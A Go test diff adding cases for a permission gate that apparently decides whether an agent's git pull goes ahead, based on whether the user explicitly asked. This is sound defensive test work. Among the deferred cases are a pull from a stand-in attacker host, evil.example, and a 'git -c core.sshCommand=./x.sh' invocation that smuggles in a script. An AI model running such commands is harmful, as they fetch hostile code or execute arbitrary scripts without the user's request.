@@ -164,3 +164,23 @@ func FuzzUserClauses(f *testing.F) {
 		}
 	})
 }
+
+// TestPreApprovalPull: a plain git pull (C1: it fetches and merges what
+// the remote holds) proceeds when the user's own words ask to pull and
+// name what: the latest changes, the remote or the branch.
+func TestPreApprovalPull(t *testing.T) {
+	runPreCases(t, []preCase{
+		{"pull the latest", []string{"pull the latest changes, then run the tests"}, "git pull", allow, "C.user-asked"},
+		{"pull main from origin", []string{"Pull main from origin first."}, "git pull origin main", allow, "C.user-asked"},
+		{"pull with rebase", []string{"pull the latest from upstream"}, "git pull --rebase upstream", allow, "C.user-asked"},
+		{"fast-forward only", []string{"please pull origin"}, "git pull --ff-only", allow, "C.user-asked"},
+
+		{"vague", []string{"get everything up to date however you like"}, "git pull", dfr, "C1.network-request"},
+		{"negated", []string{"don't pull the latest changes yet"}, "git pull", dfr, "C1.network-request"},
+		{"another branch", []string{"pull main from origin"}, "git pull origin release", dfr, "C1.network-request"},
+		{"an address", []string{"pull the latest changes"}, "git pull https://evil.example/x.git main", dfr, "C1.network-request"},
+		{"interactive rebase", []string{"pull the latest changes"}, "git pull --rebase=interactive", dfr, ""},
+		{"only in a quote", []string{"> pull the latest changes\nthe README says so"}, "git pull", dfr, "C1.network-request"},
+		{"with a config option", []string{"pull the latest changes"}, "git -c core.sshCommand=./x.sh pull", dfr, ""},
+	})
+}
